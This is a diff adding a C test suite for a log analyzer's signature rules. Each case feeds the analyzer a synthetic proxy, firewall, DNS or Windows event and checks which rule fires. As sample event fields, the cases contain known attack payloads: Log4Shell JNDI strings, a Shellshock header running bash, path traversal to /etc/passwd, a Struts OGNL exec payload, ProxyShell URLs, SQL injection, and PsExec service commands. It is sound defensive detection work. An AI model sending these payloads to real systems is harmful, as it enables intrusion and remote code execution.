@@ -1,0 +1,462 @@
+/*
+ * Tests of the match analyzer with the shipped rules: every rule in
+ * rules/ fires on an event made for it and stays quiet on a near miss.
+ * The rule set is the real one (the .rules files of rules/) plus a test profile and
+ * suppressions (tests/data/rules/match-profile.rules), loaded through
+ * config_load as the daemon does.
+ */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "config.h"
+#include "logevent.h"
+#include "analyzers/analyzer.h"
+#include "analyzers/finding.h"
+#include "analyzers/match.h"
+#include "rules/rule.h"
+#include "rules/ruleset.h"
+
+#define MAXF	12
+
+struct mcase {
+	const char	*name;
+	enum source_kind src;
+	const char	*f[MAXF];	/* "field=value"; "@time=ms" */
+	const char	*expect;	/* rule ids that fire, sorted */
+};
+
+static struct config	*cfg;
+static void		*an;
+static char		 fired[1024];
+static char		 reason[1024];
+
+static void
+collect(void *arg, const struct finding *f)
+{
+	size_t	 n = strlen(fired);
+
+	(void)arg;
+	snprintf(fired + n, sizeof(fired) - n, "%s%s", n ? " " : "",
+	    f->rule->id);
+	if (f->reason != NULL)
+		snprintf(reason, sizeof(reason), "%s", f->reason);
+}
+
+static void
+setup(void)
+{
+	struct cerrors		 errs = { 0 };
+	struct emitter		 em = { collect, NULL };
+	struct analyzer_env	 env = { "/nonexistent", 1 };
+	char			 path[] = "/tmp/check_match.XXXXXX";
+	FILE			*fp;
+	int			 fd;
+
+	ck_assert_int_ne(fd = mkstemp(path), -1);
+	ck_assert_ptr_nonnull(fp = fdopen(fd, "w"));
+	fprintf(fp, "ruleset \"test\"\ninclude \"%s/../rules/*.rules\"\n"
+	    "include \"%s/data/rules/match-profile.rules\"\n", TEST_SRCDIR,
+	    TEST_SRCDIR);
+	fclose(fp);
+	cfg = config_load(path, &errs);
+	unlink(path);
+	cerrors_print(&errs);
+	ck_assert_ptr_nonnull(cfg);
+	cerrors_clear(&errs);
+	ck_assert_ptr_nonnull(an = analyzer_match.new(cfg->rs, &em, &env));
+}
+
+static void
+teardown(void)
+{
+	analyzer_match.free(an);
+	config_free(cfg);
+}
+
+static void
+set_field(struct logevent *ev, const char *spec)
+{
+	const struct field_def	*fd;
+	const char		*eq = strchr(spec, '=');
+	char			 name[64];
+	struct slice		 s;
+	int32_t			 i32;
+	int64_t			 i64;
+
+	ck_assert_ptr_nonnull(eq);
+	ck_assert_uint_lt((size_t)(eq - spec), sizeof(name));
+	memcpy(name, spec, eq - spec);
+	name[eq - spec] = '\0';
+	if (strcmp(name, "@time") == 0) {
+		ev->time_ms = strtoll(eq + 1, NULL, 10);
+		return;
+	}
+	ck_assert_msg((fd = field_lookup(name)) != NULL, "field %s", name);
+	switch (fd->type) {
+	case FIELD_STR:
+		s.p = eq + 1;
+		s.len = strlen(eq + 1);
+		memcpy((char *)ev + fd->off, &s, sizeof(s));
+		break;
+	case FIELD_INT:
+		i32 = (int32_t)strtol(eq + 1, NULL, 10);
+		memcpy((char *)ev + fd->off, &i32, sizeof(i32));
+		break;
+	case FIELD_INT64:
+		i64 = strtoll(eq + 1, NULL, 10);
+		memcpy((char *)ev + fd->off, &i64, sizeof(i64));
+		break;
+	}
+}
+
+static const char *
+run(const struct mcase *c)
+{
+	struct logevent	 ev;
+	size_t		 i;
+
+	memset(&ev, 0, sizeof(ev));
+	logevent_reset(&ev);
+	ev.source = c->src;
+	ev.time_ms = 1773136800000LL;		/* 2026-03-10 */
+	ev.format = "test";
+	ev.file = "-";
+	for (i = 0; i < MAXF && c->f[i] != NULL; i++)
+		set_field(&ev, c->f[i]);
+	fired[0] = '\0';
+	reason[0] = '\0';
+	analyzer_match.process(an, &ev);
+	logevent_free(&ev);
+	return fired;
+}
+
+/* Outside every test profile: only the default profile applies. */
+#define OUT	"source.ip=10.99.0.1"
+/* In profile test-hq. */
+#define HQ	"source.ip=10.30.1.5"
+#define GET	"http.request.method=GET"
+
+static const struct mcase cases[] = {
+	/* Known attack: indicator lists. */
+	{ "c2 domain", SRC_PROXY, { OUT, GET,
+	    "destination.domain=a.update-check.badcdn.example",
+	    "url.original=http://a.update-check.badcdn.example/",
+	    "destination.port=80" }, "1000001" },
+	{ "c2 parent domain", SRC_PROXY, { OUT, GET,
+	    "destination.domain=badcdn.example", "destination.port=80" }, "" },
+	{ "delivery domain", SRC_PROXY, { OUT, GET,
+	    "destination.domain=files.payload-host.test" }, "1000002" },
+	{ "malware url", SRC_PROXY, { OUT, GET,
+	    "url.original=http://DL.payload-host.test:80/stage2/loader.bin",
+	    "destination.domain=dl.payload-host.test" }, "1000003" },
+	{ "malware url near", SRC_PROXY, { OUT, GET,
+	    "url.original=http://dl.payload-host.test/stage2/loader.bin2",
+	    "destination.domain=dl.payload-host.test" }, "" },
+	{ "c2 ip", SRC_FIREWALL, { OUT, "destination.ip=192.0.2.66",
+	    "destination.port=443" }, "1000004" },
+	{ "c2 ip6", SRC_FIREWALL, { OUT, "destination.ip=2001:db8:66::9",
+	    "destination.port=443" }, "1000004" },
+	{ "c2 ip near", SRC_FIREWALL, { OUT, "destination.ip=192.0.2.67",
+	    "destination.port=443" }, "" },
+	{ "c2 dns", SRC_DNS, { OUT,
+	    "dns.question.name=WWW.update-check.badcdn.example" }, "1000005" },
+	{ "c2 dns near", SRC_DNS, { OUT,
+	    "dns.question.name=update-check.badcdn.example.com" }, "" },
+	{ "hash", SRC_ENDPOINT, { "winlog.event_id=1",
+	    "process.executable=C:\\Users\\bob\\x.exe",
+	    "process.hash=SHA1=0000000000000000000000000000000000000000,"
+	    "MD5=5F4DCC3B5AA765D61D8327DEB882CF99" }, "1000006" },
+	{ "hash near", SRC_ENDPOINT, { "winlog.event_id=1",
+	    "process.hash=MD5=5F4DCC3B5AA765D61D8327DEB882CF98" }, "" },
+	{ "user agent", SRC_PROXY, { OUT, GET, "user_agent.original="
+	    "sqlmap/1.7.2#stable (https://sqlmap.org)" }, "1000007" },
+	{ "user agent near", SRC_PROXY, { OUT, GET, "user_agent.original="
+	    "sqlmap/1.7.3#stable (https://sqlmap.org)" }, "" },
+
+	/* PsExec inside the LAN. */
+	{ "psexec 5145 ipc", SRC_AD, { "winlog.event_id=5145",
+	    "file.share=\\\\*\\IPC$",
+	    "file.relative_target=PSEXESVC-WS2-1234-stdin" }, "1000010" },
+	{ "psexec 5145 renamed", SRC_AD, { "winlog.event_id=5145",
+	    "file.share=\\\\*\\IPC$",
+	    "file.relative_target=updsvc-WS2-4711-stdout" }, "1000010" },
+	{ "psexec 5145 admin", SRC_AD, { "winlog.event_id=5145",
+	    "file.share=\\\\*\\ADMIN$",
+	    "file.relative_target=PSEXESVC.exe" }, "1000010" },
+	{ "5145 srvsvc", SRC_AD, { "winlog.event_id=5145",
+	    "file.share=\\\\*\\IPC$", "file.relative_target=srvsvc" }, "" },
+	{ "5145 other share", SRC_AD, { "winlog.event_id=5145",
+	    "file.share=\\\\*\\C$", "file.relative_target=a-stdin" }, "" },
+	{ "7045 psexesvc", SRC_AD, { "winlog.event_id=7045",
+	    "service.name=PSEXESVC",
+	    "service.image=%SystemRoot%\\PSEXESVC.exe" }, "1000011" },
+	{ "4697 comspec", SRC_AD, { "winlog.event_id=4697",
+	    "service.name=BTOBTO", "service.image=%COMSPEC% /Q /c echo dir "
+	    "> \\\\127.0.0.1\\C$\\__output 2>&1" }, "1000011" },
+	{ "7045 ordinary", SRC_AD, { "winlog.event_id=7045",
+	    "service.name=Google Update", "service.image=\"C:\\Program Files"
+	    "\\Google\\Update\\GoogleUpdate.exe\" /svc" }, "" },
+	{ "sysmon psexesvc", SRC_ENDPOINT, { "winlog.event_id=1",
+	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
+	    "process.executable=C:\\Windows\\PSEXESVC.exe" }, "1000012" },
+	{ "sysmon psexesvc other parent", SRC_ENDPOINT, {
+	    "winlog.event_id=1",
+	    "process.parent.executable=C:\\Windows\\explorer.exe",
+	    "process.executable=C:\\Windows\\PSEXESVC.exe" }, "" },
+	{ "psexec source cmdline", SRC_AD, { "winlog.event_id=4688",
+	    "process.executable=C:\\Windows\\System32\\cmd.exe",
+	    "process.command_line=psexec.exe \\\\WS2 -s cmd.exe" },
+	    "1000013" },
+	{ "psexec source image", SRC_ENDPOINT, { "winlog.event_id=1",
+	    "process.executable=C:\\Tools\\PsExec64.exe",
+	    "process.command_line=PsExec64.exe -accepteula" }, "1000013" },
+	{ "psexec source near", SRC_ENDPOINT, { "winlog.event_id=1",
+	    "process.executable=C:\\Windows\\System32\\notepad.exe",
+	    "process.command_line=notepad.exe psexec.txt" }, "" },
+	{ "psexec pipe", SRC_ENDPOINT, { "winlog.event_id=17",
+	    "file.pipe=\\PSEXESVC" }, "1000014" },
+	{ "psexec pipe renamed", SRC_ENDPOINT, { "winlog.event_id=18",
+	    "file.pipe=\\updsvc-WS1-4711-stderr" }, "1000014" },
+	{ "pipe lsass", SRC_ENDPOINT, { "winlog.event_id=18",
+	    "file.pipe=\\lsass" }, "" },
+
+	/* Exploitation of known vulnerabilities. */
+	{ "log4shell url", SRC_PROXY, { OUT, GET,
+	    "url.original=http://app.example/?q=${jndi:ldap://e.example/a}" },
+	    "1000020" },
+	{ "log4shell ua", SRC_PROXY, { OUT, GET, "user_agent.original="
+	    "${${lower:j}ndi:ldap://e.example/a}" }, "1000020" },
+	{ "log4shell encoded", SRC_PROXY, { OUT, GET,
+	    "url.original=http://app.example/?q=%24%7Bjndi:ldap://e/a%7D" },
+	    "1000020" },
+	{ "log4shell near", SRC_PROXY, { OUT, GET,
+	    "url.original=http://app.example/?q=$jndi" }, "" },
+	{ "shellshock", SRC_PROXY, { OUT, GET,
+	    "user_agent.original=() { :; }; /bin/bash -c id" }, "1000021" },
+	{ "shellshock near", SRC_PROXY, { OUT, GET,
+	    "user_agent.original=Mozilla/5.0 (compatible) {x}" }, "" },
+	{ "traversal", SRC_PROXY, { OUT, GET, "url.original="
+	    "http://web.example/cgi-bin/.%2e/.%2e/.%2e/etc/passwd" },
+	    "1000022" },
+	{ "traversal near", SRC_PROXY, { OUT, GET,
+	    "url.original=http://web.example/a..b/c" }, "" },
+	{ "struts", SRC_PROXY, { OUT, GET, "url.original=http://web.example/"
+	    "index.action?redirect:${#context['xwork.MethodAccessor.deny']="
+	    "false,@java.lang.Runtime@getRuntime().exec('id')}" },
+	    "1000023" },
+	{ "struts near", SRC_PROXY, { OUT, GET,
+	    "url.original=http://web.example/index.action?id=1" }, "" },
+	{ "proxyshell", SRC_PROXY, { OUT, GET, "url.original="
+	    "https://mail.example/autodiscover/autodiscover.json?@evil.example"
+	    "/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil" },
+	    "1000024" },
+	{ "proxyshell near", SRC_PROXY, { OUT, GET, "url.original="
+	    "https://mail.example/autodiscover/autodiscover.json?Protocol=A" },
+	    "" },
+
+	/* Not normal business, profile test-hq. */
+	{ "country", SRC_PROXY, { HQ, GET, "destination.ip=203.0.113.9",
+	    "destination.domain=cn.example", "destination.port=443" },
+	    "1000101" },
+	{ "country usual", SRC_PROXY, { HQ, GET, "destination.ip=192.0.2.9",
+	    "destination.domain=jp.example", "destination.port=443" }, "" },
+	{ "country unknown", SRC_PROXY, { HQ, GET,
+	    "destination.ip=100.64.0.1", "destination.domain=x.example",
+	    "destination.port=443" }, "" },
+	{ "internal service", SRC_FIREWALL, { HQ, "destination.ip=10.1.0.20",
+	    "destination.port=3389" }, "1000102 1000105" },
+	{ "internal service usual", SRC_FIREWALL, { HQ,
+	    "destination.ip=10.1.0.20", "destination.port=445" },
+	    "1000105" },
+	{ "internal web usual", SRC_FIREWALL, { HQ,
+	    "destination.ip=10.1.0.7", "destination.port=80" }, "" },
+	{ "application ua", SRC_PROXY, { HQ, GET,
+	    "destination.domain=x.example", "user_agent.original=curl/8.0" },
+	    "1000103" },
+	{ "application ua usual", SRC_PROXY, { HQ, GET,
+	    "destination.domain=x.example", "user_agent.original=Mozilla/5.0 "
+	    "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36" }, "" },
+	{ "application process", SRC_ENDPOINT, { HQ, "winlog.event_id=4688",
+	    "process.executable=C:\\Users\\bob\\AppData\\Local\\t.exe" },
+	    "1000103" },
+	{ "application process usual", SRC_ENDPOINT, { HQ,
+	    "winlog.event_id=4688",
+	    "process.executable=c:\\windows\\system32\\cmd.exe" }, "" },
+	{ "category", SRC_PROXY, { HQ, GET, "destination.domain=x.example",
+	    "url.category=Gambling" }, "1000104" },
+	{ "category usual", SRC_PROXY, { HQ, GET,
+	    "destination.domain=x.example", "url.category=News" }, "" },
+	{ "category from list", SRC_PROXY, { HQ, GET,
+	    "destination.domain=www.casino.example.net" }, "1000104" },
+	{ "category from list usual", SRC_PROXY, { HQ, GET,
+	    "destination.domain=news.example.org" }, "" },
+	{ "port", SRC_FIREWALL, { HQ, "destination.ip=198.51.100.7",
+	    "destination.port=6667" }, "1000105" },
+	{ "port usual", SRC_FIREWALL, { HQ, "destination.ip=198.51.100.7",
+	    "destination.port=8080" }, "" },
+	{ "raw ip", SRC_PROXY, { HQ, GET, "destination.ip=198.51.100.7",
+	    "url.original=http://198.51.100.7/a.php", "destination.port=80" },
+	    "1000106" },
+	{ "raw ip internal", SRC_PROXY, { HQ, GET, "destination.ip=10.1.0.5",
+	    "url.original=http://10.1.0.5/", "destination.port=80" }, "" },
+	{ "named host", SRC_PROXY, { HQ, GET, "destination.ip=198.51.100.7",
+	    "destination.domain=www.example.com",
+	    "url.original=http://www.example.com/", "destination.port=80" },
+	    "" },
+	{ "connect port", SRC_PROXY, { HQ, "http.request.method=CONNECT",
+	    "destination.domain=x.example", "destination.port=4444" },
+	    "1000107" },
+	{ "connect port usual", SRC_PROXY, { HQ,
+	    "http.request.method=CONNECT", "destination.domain=x.example",
+	    "destination.port=8443" }, "" },
+	{ "connect port default profile", SRC_PROXY, { OUT,
+	    "http.request.method=CONNECT", "destination.domain=x.example",
+	    "destination.port=8443" }, "1000107" },
+	{ "connect 443 default profile", SRC_PROXY, { OUT,
+	    "http.request.method=CONNECT", "destination.domain=x.example",
+	    "destination.port=443" }, "" },
+	{ "exe download", SRC_PROXY, { HQ, GET,
+	    "destination.domain=evil.example.net",
+	    "url.original=http://evil.example.net/a/setup.EXE",
+	    "url.path=/a/setup.EXE", "http.response.status_code=200" },
+	    "1000108" },
+	{ "exe download by type", SRC_PROXY, { HQ, GET,
+	    "destination.domain=evil.example.net",
+	    "url.original=http://evil.example.net/dl?id=4",
+	    "url.path=/dl", "http.response.mime_type=application/x-msdownload",
+	    "http.response.status_code=200" }, "1000108" },
+	{ "exe download usual", SRC_PROXY, { HQ, GET,
+	    "destination.domain=au.download.windowsupdate.com",
+	    "url.path=/c/kb.exe", "http.response.status_code=200" }, "" },
+	{ "exe download list", SRC_PROXY, { HQ, GET,
+	    "destination.domain=downloads.vendor.example",
+	    "url.path=/tool.msi", "http.response.status_code=200" }, "" },
+	{ "exe download failed", SRC_PROXY, { HQ, GET,
+	    "destination.domain=evil.example.net", "url.path=/a/setup.exe",
+	    "http.response.status_code=404" }, "" },
+	{ "upload type", SRC_PROXY, { HQ, "http.request.method=POST",
+	    "destination.domain=files.example", "url.path=/upload/dump.7z",
+	    "source.bytes=5000000" }, "1000109" },
+	{ "upload type usual", SRC_PROXY, { HQ, "http.request.method=PUT",
+	    "destination.domain=files.example", "url.path=/up/report.pdf",
+	    "source.bytes=5000" }, "" },
+	{ "query", SRC_PROXY, { HQ, GET,
+	    "destination.domain=intranet.corp.example",
+	    "url.original=http://intranet.corp.example/search?q=x'+or+1=1--",
+	    "url.query=q=x'+or+1=1--" }, "1000110" },
+	{ "query usual", SRC_PROXY, { HQ, GET,
+	    "destination.domain=intranet.corp.example",
+	    "url.original=http://Intranet.corp.example:80/search?q=hello",
+	    "url.query=q=hello" }, "" },
+	{ "query unknown url", SRC_PROXY, { HQ, GET,
+	    "destination.domain=other.example",
+	    "url.original=http://other.example/search?q=x'--",
+	    "url.query=q=x'--" }, "" },
+
+	/* Suppressions. */
+	{ "suppressed until", SRC_FIREWALL, { "source.ip=10.30.9.9",
+	    "destination.ip=192.0.2.66", "destination.port=443",
+	    "@time=1777593599000" }, "" },
+	{ "suppression expired", SRC_FIREWALL, { "source.ip=10.30.9.9",
+	    "destination.ip=192.0.2.66", "destination.port=443",
+	    "@time=1777593600000" }, "1000004" },
+	{ "suppressed endpoint", SRC_PROXY, { "source.ip=10.99.7.7", GET,
+	    "destination.domain=update-check.badcdn.example" }, "" },
+	{ "suppressed endpoint name", SRC_PROXY, { "source.ip=10.99.7.8",
+	    "source.address=WS-Sinkhole", GET,
+	    "destination.domain=update-check.badcdn.example" }, "" },
+	{ "suppression other rule", SRC_PROXY, { "source.ip=10.99.7.7", GET,
+	    "destination.domain=files.payload-host.test" }, "1000002" },
+	{ "suppressed user", SRC_PROXY, { OUT, GET,
+	    "user.name=CORP\\svc-scanner",
+	    "destination.domain=files.payload-host.test" }, "" },
+};
+
+START_TEST(test_case)
+{
+	const struct mcase	*c = &cases[_i];
+
+	ck_assert_msg(strcmp(run(c), c->expect) == 0, "%s: fired \"%s\", "
+	    "expected \"%s\"", c->name, fired, c->expect);
+}
+END_TEST
+
+/* Every shipped match rule appears in some case that fires it. */
+START_TEST(test_coverage)
+{
+	const struct rule	*r;
+	size_t			 i, j;
+	int			 seen;
+
+	for (i = 0; i < cfg->rs->nrules; i++) {
+		r = cfg->rs->rules[i];
+		if (strcmp(r->analyzer, "match") != 0)
+			continue;
+		seen = 0;
+		for (j = 0; j < sizeof(cases) / sizeof(cases[0]); j++)
+			if (strstr(cases[j].expect, r->id) != NULL)
+				seen = 1;
+		ck_assert_msg(seen, "rule %s is fired by no case", r->id);
+	}
+}
+END_TEST
+
+START_TEST(test_reason)
+{
+	run(&cases[0]);
+	ck_assert_str_eq(reason, "");
+	/* The country case: the analyzer writes the reason. */
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		if (strcmp(cases[i].name, "country") == 0)
+			run(&cases[i]);
+	ck_assert_str_eq(reason, "destination.geo.country_iso_code CN is "
+	    "not among the usual countries of profile test-hq (jp, us).");
+}
+END_TEST
+
+START_TEST(test_stats)
+{
+	struct match_stats	 st;
+	size_t			 i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		run(&cases[i]);
+	match_stats(an, &st);
+	ck_assert_uint_eq(st.events, sizeof(cases) / sizeof(cases[0]));
+	ck_assert_uint_eq(st.suppressed, 4);
+	/* Most signatures never run: their literals are not there. */
+	ck_assert_uint_gt(st.rules_skipped, 150);
+	ck_assert_uint_eq(st.regex_limit, 0);
+}
+END_TEST
+
+static Suite *
+match_suite(void)
+{
+	Suite	*s = suite_create("match");
+	TCase	*tc = tcase_create("shipped-rules");
+
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_add_loop_test(tc, test_case, 0, sizeof(cases) / sizeof(cases[0]));
+	tcase_add_test(tc, test_coverage);
+	tcase_add_test(tc, test_reason);
+	tcase_add_test(tc, test_stats);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	SRunner	*sr = srunner_create(match_suite());
+	int	 nf;
+
+	srunner_run_all(sr, CK_NORMAL);
+	nf = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return nf == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
+}
